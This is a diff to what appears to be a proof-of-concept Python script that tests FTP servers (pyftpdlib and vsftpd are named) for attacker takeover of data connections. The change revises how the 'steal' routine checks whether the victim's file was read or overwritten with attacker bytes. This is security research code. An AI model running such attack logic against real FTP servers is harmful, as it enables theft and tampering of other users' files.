@@ -174,9 +174,16 @@ def steal(args):
     reply_of(attacker.quit)
     if args.direction == "get":
         del seen["sent"]
-    else:
+    else:   # the file the refused STOR was aimed at, as a login of its own finds it
         del seen["received"]
-        seen["stored_by_attacker"] = seen["kept"] = None
+        checker = login(args)
+        checker.cwd(args.directory)
+        now = io.BytesIO()
+        reply_of(lambda: checker.retrbinary(f"RETR {name}", now.write))
+        reply_of(checker.quit)
+        data = now.getvalue()
+        seen["kept"] = data == secret
+        seen["stored_by_attacker"] = len(data) if data and data == b"A" * len(data) else 0
     seen["victim_retry"] = "not tried"
     # The victim tries again with its own session: on the same login if the server kept it (pyftpdlib),
     # else on a new one (vsftpd ends a session whose data connection failed its TLS check).
@@ -185,21 +192,8 @@ def steal(args):
             reply_of(victim.close)
             victim = login(args)
             victim.cwd(args.directory)
-        if args.direction == "put" and seen["stored_by_attacker"] is None:
-            reply_of(lambda: victim.voidcmd("TYPE I"))   # SIZE is refused in ASCII mode
-            size = reply_of(lambda: victim.size(name))
-            if size is None:   # a late reply to the refused command came first: this login is out of step
-                continue
-            if isinstance(size, int):   # the file as the refused STOR left it: the victim's, or the attacker's
-                now = io.BytesIO()
-                reply_of(lambda: victim.retrbinary(f"RETR {name}", now.write))
-                data = now.getvalue()
-                seen["kept"] = data == secret
-                seen["stored_by_attacker"] = len(data) if data and data == b"A" * len(data) else 0
-            elif size.startswith("550"):   # no such file
-                seen["kept"], seen["stored_by_attacker"] = False, 0
-            elif not size.startswith("closed"):
-                seen["stored_by_attacker"] = size
+        if not str(reply_of(lambda: victim.voidcmd("TYPE I"))).startswith("200"):
+            continue   # a late reply to the refused command came first, or the login is gone
         if args.direction == "put":
             reply_of(lambda: victim.storbinary(f"STOR {name}", io.BytesIO(secret)))
         back = io.BytesIO()
